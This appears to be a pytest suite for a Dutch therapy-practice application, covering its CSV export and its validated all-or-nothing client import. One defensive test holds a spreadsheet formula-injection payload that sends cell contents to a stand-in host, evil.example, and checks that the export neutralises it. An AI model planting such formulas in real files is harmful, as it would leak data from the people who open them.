"""CSV export, and the all-or-nothing CSV import of clients with its report of bad rows."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from knoop.errors import ImportStopped
from knoop.fhir.csvexport import export_csv
from knoop.fhir.csvio import import_clients
from tests.demo_practice import Demo

GOOD = ("voornaam;tussenvoegsel;achternaam;geboortedatum;e-mail;telefoon;huisarts\n"
        "Jan;van;Dijk;01-02-1980;jan@voorbeeld.nl;06-1;Dr. Wit\n"
        "Marie;;Claes;1975-12-01;;;\n")


def _log(demo: Demo) -> list[tuple[str, int | None]]:
    """(action, client) of every access-log entry, oldest first."""
    from sqlalchemy import select

    from knoop.store.models import AccessLogRow

    with demo.store.engine.connect() as conn:
        return [(r.action, r.client_id) for r in conn.execute(
            select(AccessLogRow.action, AccessLogRow.client_id).order_by(AccessLogRow.id))]


def _count(demo: Demo) -> int:
    return len(demo.store.search_clients(demo.therapist, "", limit=500))


def test_export_writes_sessions_findings_treatments(demo: Demo, tmp_path: Path) -> None:
    counts = export_csv(demo.store, demo.therapist, tmp_path)
    assert counts == {"clients": 5, "sessions": 15, "findings": 43, "treatments": 30,
                      "diary": 0}
    with (tmp_path / "findings.csv").open(encoding="utf-8-sig") as f:
        rows = list(csv.DictReader(f, delimiter=";"))
    assert len(rows) == 43 and {"muscle", "side", "result"} <= set(rows[0])
    assert (tmp_path / "sessions.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_export_rows_are_the_dossiers_rows_and_the_export_is_logged_once(
        demo: Demo, tmp_path: Path) -> None:
    """Keyset pages give the same rows as reading every dossier (the old way), in the same
    order, whatever the page size; the whole export is one access-log entry."""
    expected = []
    for cid in range(1, 6):
        for s in demo.store.client_dossier(demo.therapist, cid)["sessions"]:
            expected.append([str(x) for x in (cid, s["id"], s["started_at"], len(s["findings"]),
                                              len(s["treatments"]), s["nrs_before"])])
    before = _log(demo)
    export_csv(demo.store, demo.therapist, tmp_path)
    assert _log(demo)[len(before):] == [("export", None)]
    with (tmp_path / "sessions.csv").open(encoding="utf-8-sig") as f:
        got = [[r["client_id"], r["session_id"], r["started_at"], r["findings"],
                r["treatments"], r["nrs_before"]] for r in csv.DictReader(f, delimiter=";")]
    assert got == expected
    whole = list(demo.store.practice_export(demo.therapist))
    small = list(demo.store.practice_export(demo.therapist, page=2))
    assert (len(whole), len(small)) == (1, 3)
    for kind in ("sessions", "findings", "treatments", "diary"):
        assert [r for p in small for r in getattr(p, kind)] == getattr(whole[0], kind)


def test_an_export_sees_only_the_practice_of_the_actor(demo: Demo, tmp_path: Path) -> None:
    counts = export_csv(demo.store, demo.outsider, tmp_path)
    assert counts == {"clients": 0, "sessions": 0, "findings": 0, "treatments": 0, "diary": 0}


def test_good_file_imports_all_rows(demo: Demo) -> None:
    before = _count(demo)
    dry = import_clients(GOOD.encode(), demo.store, demo.therapist, dry_run=True)
    assert dry.ok and len(dry.rows) == 2 and _count(demo) == before
    rep = import_clients(GOOD.encode(), demo.store, demo.therapist)
    assert rep.created == 2 and _count(demo) == before + 2
    jan = demo.store.search_clients(demo.therapist, "dijk")[0]
    assert str(jan.date_of_birth) == "1980-02-01"


BAD = {
    "wrong columns": ("naam;geboortedatum\nJan Dijk;1980-01-01\n",
                      [(1, "unknown column(s) 'naam'"), (1, "missing column(s) first_name")]),
    "missing column": ("voornaam;geboortedatum\nJan;1980-01-01\n", [(1, "missing column")]),
    "bad dates": (("voornaam;achternaam;geboortedatum\nJan;Dijk;31-02-1980\n"
                   "Piet;Bos;gisteren\nKlaas;Vos;1850-01-01\n"),
                  [(2, "not a date"), (3, "not a date"), (4, "plausible")]),
    "duplicate in file": (("voornaam;achternaam;geboortedatum\nJan;Dijk;1980-01-01\n"
                           "Ed;Bos;\njan;DIJK;01-01-1980\n"),
                          [(4, "same name and date of birth as line 2")]),
    "already stored": ("first_name,infix,last_name,date_of_birth\nAnna,de,Vries,1978-04-12\n",
                       [(2, "already stored")]),
    "ragged row": ("voornaam;achternaam\nJan;Dijk;extra\n", [(2, "3 fields")]),
    "empty name": ("voornaam;achternaam\nJan;\n", [(2, "last_name is empty")]),
    "bad e-mail": ("voornaam;achternaam;email\nJan;Dijk;geen-mail\n", [(2, "e-mail")]),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_malformed_files_report_every_bad_row_and_import_nothing(demo: Demo, case: str) -> None:
    text, expected = BAD[case]
    before = _count(demo)
    for dry_run in (True, False):
        rep = import_clients(text.encode(), demo.store, demo.therapist, dry_run=dry_run)
        assert not rep.ok and rep.created == 0
        got = [(e.line, e.reason) for e in rep.errors]
        assert len(got) == len(expected), got
        for (line, reason), (eline, ereason) in zip(got, expected, strict=True):
            assert line == eline and ereason in reason, got
    assert _count(demo) == before


def test_wrong_encoding_is_named(demo: Demo) -> None:
    data = "voornaam;achternaam\nJosé;Müller\n".encode("cp1252")
    rep = import_clients(data, demo.store, demo.therapist)
    assert not rep.ok and rep.errors[0].line == 2
    assert "not UTF-8" in rep.errors[0].reason and "Windows-1252" in rep.errors[0].reason
    rep = import_clients("voornaam;achternaam\n".encode("utf-16"), demo.store, demo.therapist)
    assert "UTF-16" in rep.errors[0].reason
    assert _count(demo) == 5


def test_a_field_over_128_kib_is_a_row_error_not_a_traceback(demo: Demo) -> None:
    data = ("voornaam;achternaam\nAnna;" + "x" * (130 * 1024) + "\n").encode()
    rep = import_clients(data, demo.store, demo.therapist)
    assert not rep.ok and rep.errors[0].line == 2
    assert "longer than 128 KiB" in rep.errors[0].reason
    assert _count(demo) == 5


def test_a_database_failure_half_way_keeps_whole_batches_and_a_rerun_adds_the_rest(
        demo: Demo) -> None:
    """The database refuses line 3 (a real trigger, as a full disk would): the batch before it
    stays, the error says so, the log still verifies; the same file again adds only line 3."""
    from sqlalchemy import text

    with demo.store.engine.begin() as conn:
        conn.execute(text("CREATE TRIGGER refuse BEFORE INSERT ON clients "
                          "WHEN NEW.last_name = 'Claes' BEGIN SELECT RAISE(ABORT, 'disk full'); "
                          "END"))
    with pytest.raises(ImportStopped) as stopped:
        import_clients(GOOD.encode(), demo.store, demo.therapist, batch=1)
    assert stopped.value.message == ("line 3: not stored (disk full); line 2 (1 client) "
                                     "imported; import the same file again to add the rest")
    assert _count(demo) == 6 and demo.store.verify_access_log().ok
    with demo.store.engine.begin() as conn:
        conn.execute(text("DROP TRIGGER refuse"))
    again = import_clients(GOOD.encode(), demo.store, demo.therapist, batch=1)
    assert (again.created, again.skipped) == (1, [2])
    assert _count(demo) == 7 and demo.store.verify_access_log().ok
    assert import_clients(GOOD.encode(), demo.store, demo.therapist).created == 0


def test_a_failing_batch_stores_none_of_its_rows(demo: Demo) -> None:
    from sqlalchemy import text

    with demo.store.engine.begin() as conn:
        conn.execute(text("CREATE TRIGGER refuse BEFORE INSERT ON clients "
                          "WHEN NEW.last_name = 'Claes' BEGIN SELECT RAISE(ABORT, 'no'); END"))
    with pytest.raises(ImportStopped, match="lines 2-3: .*nothing was imported"):
        import_clients(GOOD.encode(), demo.store, demo.therapist)
    assert _count(demo) == 5 and demo.store.verify_access_log().ok


def test_another_user_can_write_between_the_batches_of_an_import(demo: Demo) -> None:
    """Each batch is its own short transaction: a colleague's write between two batches goes
    through at once (with the write lock held for the whole import it would wait 30 s)."""
    rows = "voornaam;achternaam\n" + "".join(f"Klant;Nummer{i}\n" for i in range(6))
    written = []

    def colleague(done: int, total: int) -> None:
        c = demo.store.create_client(demo.admin, first_name="Tussen", last_name=f"Door{done}")
        written.append(c.id)

    rep = import_clients(rows.encode(), demo.store, demo.therapist, batch=2, progress=colleague)
    assert rep.created == 6 and len(written) == 3
    assert _count(demo) == 5 + 6 + 3


def test_a_row_the_store_would_refuse_is_reported_before_anything_is_stored(demo: Demo) -> None:
    data = 'voornaam;achternaam\nJan;Dijk\n"Piet\nKlaas";Bos\n'.encode()
    rep = import_clients(data, demo.store, demo.therapist)
    assert not rep.ok and rep.created == 0 and rep.errors[0].line == 4
    assert _count(demo) == 5


def test_the_duplicate_check_reads_only_the_clients_with_the_names_in_the_file(
        demo: Demo) -> None:
    """No walk through the practice: one search entry, a list entry per client matched."""
    before = _log(demo)
    rep = import_clients(BAD["already stored"][0].encode(), demo.store, demo.therapist,
                         dry_run=True)
    assert [e.reason for e in rep.errors] == ["client already stored: client 1 (Anna de Vries)"]
    assert _log(demo)[len(before):] == [("search", None), ("list", 1)]


def test_formula_cells_are_quoted_also_from_an_intake_link(demo: Demo, tmp_path: Path) -> None:
    """Issue 13: a complaint typed through an intake link must not run in a spreadsheet."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    token = demo.store.create_intake_token(demo.therapist, 1)
    demo.store.use_intake_token(token, {"complaint": evil})
    export_csv(demo.store, demo.therapist, tmp_path / "out")
    with (tmp_path / "out" / "sessions.csv").open(encoding="utf-8-sig") as f:
        cells = [c for row in csv.reader(f, delimiter=";") for c in row]
    assert "'" + evil in cells and evil not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)


@pytest.mark.parametrize("text", ["=1+1", "+31 6 1234", "-2+3", "@SUM(A1)", "\t=1", " =1"])
def test_every_formula_start_is_neutralised(text: str) -> None:
    from knoop.fhir.csvexport import neutral
    assert neutral(text) == "'" + text
    assert neutral("Hoofdpijn - links") == "Hoofdpijn - links"


def test_export_files_are_readable_by_the_owner_only(demo: Demo, tmp_path: Path) -> None:
    export_csv(demo.store, demo.therapist, tmp_path / "out")
    assert oct((tmp_path / "out").stat().st_mode & 0o777) == "0o700"
    for name in ("sessions", "findings", "treatments"):
        assert oct((tmp_path / "out" / f"{name}.csv").stat().st_mode & 0o777) == "0o600"


def test_an_import_is_sealed_with_the_instance_key_and_anchored(tmp_path: Path) -> None:
    """Issue 13: the import's own store must seal its log rows with the instance's key."""
    from knoop.store import Store, make_engine, upgrade
    from knoop.store.audit import read_anchor

    eng = make_engine(f"sqlite:///{tmp_path / 'k.sqlite3'}")
    upgrade(eng)
    st = Store(eng, audit_key=b"an instance key of at least 32 bytes!",
               audit_anchor=tmp_path / "audit.anchor")
    p = st.create_practice("P")
    me = st.create_user(p.id, "a@b.nl", "therapist", "Zomer in Zeeland met de fiets").actor
    assert import_clients(GOOD.encode(), st, me).created == 2
    report = st.verify_access_log()
    assert report.ok, report.problem
    anchored = read_anchor(tmp_path / "audit.anchor")
    assert anchored is not None and anchored[0] == report.rows
